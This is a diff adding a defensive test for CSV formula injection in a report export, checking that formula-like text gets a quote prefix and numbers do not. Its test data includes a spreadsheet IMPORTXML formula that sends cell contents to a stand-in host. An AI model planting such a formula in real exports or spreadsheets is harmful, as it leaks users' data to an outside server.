@@ -174,6 +174,18 @@ def test_exports_parse_back(committee_client, record):
     )
 
 
+def test_csv_export_writes_formulas_as_text_and_numbers_as_numbers(committee_client, record):
+    record.title = '=IMPORTXML(CONCAT("http://x.test/?";A3);"//a")'
+    record.next_step = "-relancer"
+    record.save()
+    response = committee_client.get(reverse("partnerships_report") + "?export=csv")
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
+    row = dict(zip(rows[0], rows[1], strict=True))
+    assert row["Titre"] == "'" + record.title
+    assert row["Prochaine étape"] == "'-relancer"
+    assert row["Apports (€)"] in ("1200", "1200.00")  # a number: no prefix
+
+
 @pytest.mark.parametrize("count", [10, 500])
 def test_list_queries_do_not_grow(
     tree, committee_client, company, count, django_assert_max_num_queries
